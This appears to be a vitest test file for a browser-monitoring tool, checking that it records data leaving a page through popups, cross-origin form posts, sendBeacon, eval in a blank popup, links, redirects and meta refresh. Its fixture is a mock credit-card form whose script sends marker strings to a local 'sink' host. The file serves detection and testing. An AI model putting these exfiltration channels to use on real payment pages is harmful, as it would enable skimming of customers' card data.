import { afterAll, beforeAll, expect, test } from 'vitest';
import { openBrowser, type ProbeBrowser } from '../src/index.ts';
import { pageOf, type Run, run } from './support/run.ts';
import { type Site, startSite } from './support/site.ts';

/** Whole pages as a way out: popups, forms that open one, addresses that are gone to. Each needs a click of its own. */
let browser: ProbeBrowser;
let shop: Site;
let sink: Site;
let seen: Run;

beforeAll(async () => {
  browser = await openBrowser();
  sink = await startSite('127.0.0.1', { '/p': 'ok', '/gone-to': 'ok' });
  shop = await startSite('127.0.0.1', {});
  const other = `http://sink.localhost:${sink.port}`;
  shop.pages['/popup'] = `<script>
addEventListener('pagehide', () => navigator.sendBeacon('${other}/p', 'popup-leaves'));
setTimeout(() => (location.href = '${other}/gone-to?by=location'), 100);</script>`;
  shop.pages['/c.js'] = `
const on = (id, act) => document.querySelector('#' + id).addEventListener('click', act, { once: true });
const form = (fields) => { const f = Object.assign(document.createElement('form'), { method: 'post', action: '${other}/p', target: '_blank', innerHTML: fields }); document.body.append(f); f.submit(); };
const link = (href) => { const a = Object.assign(document.createElement('a'), { href, target: '_blank', rel: 'noopener' }); document.body.append(a); a.click(); };
on('n', () => form('<input name=v value=form-in-a-popup>'));
on('e', () => window.open('/popup'));
on('c', () => { const w = window.open('about:blank'); w.eval("navigator.sendBeacon('${other}/p', 'script-in-a-popup')"); setTimeout(() => w.close(), 500); });
on('h', () => link('${other}/gone-to?by=link'));
document.querySelector('#h').addEventListener('blur', () => { const m = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${other}/gone-to?by=refresh' }); document.head.append(m); });`;
  shop.pages['/'] =
    `<label>カード番号 <input id="n" autocomplete="cc-number"></label><label>有効期限 <input id="e" autocomplete="cc-exp"></label>
<label>セキュリティコード <input id="c" autocomplete="cc-csc"></label><label>名義 <input id="h" autocomplete="cc-name"></label><iframe name="empty"></iframe><script src="/c.js"></script>`;
  seen = await run(browser, pageOf(`http://shop.localhost:${shop.port}/`));
});
afterAll(async () => {
  await browser.close();
  await Promise.all([shop.close(), sink.close()]);
});

test.each(['v=form-in-a-popup', 'popup-leaves', 'script-in-a-popup'])('%s: body and all', (body) => {
  expect(sink.got('/p').map((item) => item.body)).toContain(body);
  expect(seen.wire.find((message) => message.text === body)?.method).toBe('POST');
});

test.each(['location', 'link', 'refresh'])('a page gone to by %s is a message', (way) => {
  expect(sink.got('/gone-to').some((item) => item.url.endsWith(way))).toBe(true);
  const message = seen.wire.find((item) => item.url.endsWith(`/gone-to?by=${way}`));
  expect(message).toMatchObject({ resource: 'document', target: 'page', outcome: { kind: 'response' } });
});

test('frames of the page that was left are no gap', () => {
  const { frames } = seen.recording.artifacts;
  const gaps = frames.kind === 'observed' ? frames.gaps : [];
  expect(gaps.filter((gap) => gap.code === 'unreadable')).toEqual([]);
});
